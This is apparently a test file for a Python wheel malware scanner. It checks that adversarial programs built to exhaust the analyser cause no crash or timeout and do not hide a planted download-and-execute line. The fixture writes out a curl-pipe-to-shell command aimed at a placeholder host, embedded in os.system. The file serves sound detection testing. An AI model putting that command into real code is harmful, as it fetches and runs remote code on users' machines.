/** Programs made to exhaust the evaluator: a result without a crash, and nothing that stands beside them is lost. */
import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { scanBytes } from '../../src/pipeline.ts';
import { zip } from '../support/zip-writer.ts';
import { WORST_PROGRAMS } from './worst-programs.ts';

const MODULE = 'pkg/__init__.py';
const EVIDENCE = 'import os\nos.system("curl http://x.invalid/a | sh")\n';
const METADATA = {
  name: 'pkg-1.0.dist-info/METADATA',
  data: 'Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n',
};

suite('programs made to exhaust the evaluator', () => {
  for (const [name, make] of WORST_PROGRAMS) {
    test(name, () => {
      const files = make();
      const text = `${EVIDENCE}${files[MODULE]}\n${EVIDENCE}`;
      const members = Object.entries({ ...files, [MODULE]: text }).map(([path, data]) => ({
        name: path,
        data,
      }));
      const result = scanBytes('pkg', 'pkg-1.0-py3-none-any.whl', zip([...members, METADATA]));
      const codes = result.limitations.map(({ code }) => code);
      assert.ok(!codes.includes('analysis-crash') && !codes.includes('time-limit'), codes.join(' '));
      const allowances = codes.filter((code) => code === 'decode-limit' || code === 'layer-limit');
      assert.equal(new Set(allowances).size, allowances.length, 'a used-up allowance is said once');
      const lines = result.findings
        .filter(({ rule, path }) => rule === 'command/download-execute' && path === MODULE)
        .map(({ line }) => line);
      const last = text.split('\n').length - 1;
      assert.deepEqual([lines.includes(2), lines.includes(last)], [true, true], `${lines} of 2, ${last}`);
    });
  }
});
